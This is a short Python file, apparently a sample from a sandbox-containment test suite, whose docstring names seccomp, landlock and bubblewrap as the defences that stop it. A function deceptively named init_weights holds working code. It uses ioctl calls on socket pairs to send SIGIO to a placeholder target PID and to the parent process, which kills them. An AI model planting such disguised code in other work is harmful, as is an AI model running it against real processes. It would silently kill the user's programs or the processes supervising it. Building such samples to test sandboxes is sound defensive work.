"""The same by ioctl on a pair of sockets: the owner of a descriptor gets SIGIO, which ends most programs.

stopped_by: seccomp (commands of ioctl are listed); landlock; bubblewrap
stand_in: seccomp landlock bubblewrap
"""
import fcntl
import os
import socket
import struct
import time

SET_OWNER, ASYNCHRONOUS, PROCESS_GROUP = 0x8901, 0x5452, 0x8902


def init_weights(d_in, d_out, seed):
    for target in (int("@PID@"), os.getppid()):
        one, other = socket.socketpair()
        for command, number in ((SET_OWNER, target), (PROCESS_GROUP, target), (ASYNCHRONOUS, 1)):
            try:
                fcntl.ioctl(one, command, struct.pack("i", number))
            except OSError as error:
                print(error)
        other.send(b"!")
        time.sleep(0.02)
